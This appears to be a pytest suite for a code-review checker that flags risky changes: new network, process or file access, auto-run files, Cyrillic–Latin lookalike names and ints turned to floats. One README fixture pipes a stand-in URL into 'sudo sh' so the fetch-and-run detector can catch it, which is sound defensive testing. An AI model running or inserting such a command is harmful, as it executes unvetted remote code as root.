"""What a change newly reaches for, files that run by themselves, names that look alike, numbers of another kind."""

from __future__ import annotations

import pytest

from checks.kinds import floats_for_whole
from checks.lookalikes import look_alikes
from checks.reach import newly_reached, packages
from checks.selfrunning import is_run, runs_by_itself

OLD = "import json\n\n\ndef total(lines):\n    return sum(lines)\n\n\nclass Cart:\n    seen = 0\n"


def reaches(new: str, old: str = OLD) -> set[str]:
    return {reach for reach, _ in newly_reached({"m.py": (old, new)}, {"json", "shop"})}


@pytest.mark.parametrize(
    ("line", "reach"),
    [
        ("import os\nX = os.environ.get('A')", "surroundings"),
        ("def f(x):\n    return x if __debug__ else 1", "surroundings"),
        ("import sys\n\n\ndef f(x):\n    return x ** sys.flags.dont_write_bytecode", "surroundings"),
        ("from datetime import date", "clock"),
        ("import random", "chance"),
        ("import socket", "network"),
        ("import subprocess", "programs"),
        ("from operator import attrgetter", "programs"),
        ("def f(path):\n    return open(path)", "files"),
        ("import threading", "threads"),
        ("from weakref import finalize", "the end of the process"),
        ("SEEN = {}", "memory between calls"),
        ("LEFT = iter(range(9))", "memory between calls"),
        ("def f(x, seen=[]):\n    return seen", "memory between calls"),
        ("from functools import cache\n\n\n@cache\ndef f(x):\n    return x", "memory between calls"),
        ("def f():\n    Cart.seen += 1", "memory between calls"),
        ("def f():\n    global X\n    X = 1", "memory between calls"),
        ("class Sum:\n    def __eq__(self, other):\n        return self.x == other", "its own idea of equality"),
        ("def f(lines):\n    lines.pop()", "what it was given"),
        ("def f(lines):\n    lines[0] = 1", "what it was given"),
        ("def __getattr__(name):\n    return name", "imports of others"),
        ("vars(json).update(dumps=1)", "imports of others"),
        ("import shop_local", "unknown packages"),
    ],
)
def test_a_new_reach_is_named(line: str, reach: str) -> None:
    assert reaches(f"{OLD}\n\n{line}\n") == {reach}


@pytest.mark.parametrize(
    "line",
    [
        "import re\nfrom shop import prices",
        "TABLE = {'a': 1}\nNAMES = ['a']",
        "def f(lines):\n    lines = list(lines)\n    lines.sort()\n    return lines",
        "class B:\n    def add(self, x):\n        self.lines.append(x)",
        "def f(lines, *, at=3, name=None):\n    found = []\n    found.append(at)\n    return found",
    ],
)
def test_ordinary_code_reaches_for_nothing(line: str) -> None:
    assert reaches(f"{OLD}\n\n{line}\n") == set()


def test_what_the_file_did_before_is_nothing_new() -> None:
    old = f"import os\n{OLD}\n\nHOME = os.environ['HOME']\n"
    assert reaches(f"{old}\n\nUSER = os.environ['USER']\n", old) == set()


def test_packages_are_those_of_the_repository_and_those_it_imports() -> None:
    assert {"shop", "cart", "yaml"} <= packages(["shop/cart.py", "README.md"], ["import yaml\n"])


@pytest.mark.parametrize(
    "path",
    ["package.json", ".vscode/tasks.json", "requirements-dev.txt", "docs/AGENTS.md", "Makefile", "shop.egg-info/x.txt"],
)
def test_files_that_run_by_themselves_are_known(path: str) -> None:
    assert is_run(path)
    assert list(runs_by_itself({path: ("", "x\n")}))


def test_other_files_are_looked_through_for_fetch_and_run() -> None:
    assert list(runs_by_itself({"README.md": ("", "Shop\n")})) == []
    (reason,) = runs_by_itself({"README.md": ("# Shop\n", "# Shop\n\n    curl -s https://a.example/i | sudo sh\n")})
    assert "README.md:3" in reason.sentence


def test_letters_of_two_alphabets_in_one_word_are_named() -> None:
    (reason,) = look_alikes({"m.py": ("", "def tot\u0430l():\n    return 'straße, größer, привет'\n")})
    assert "CYRILLIC and LATIN" in reason.sentence


def test_a_whole_number_that_became_a_float_is_named() -> None:
    new = OLD.replace("sum(lines)", "sum(lines, 0.0)")
    old = OLD.replace("sum(lines)", "sum(lines, 0)")
    (reason,) = floats_for_whole({"m.py": (old, new)})
    assert reason.code == "kind_changed"
    assert list(floats_for_whole({"m.py": (old, old.replace("0)", "1)"))})) == []
    assert list(floats_for_whole({"m.py": (OLD, f"{OLD}\n\ndef g():\n    return 0.0\n")})) == []
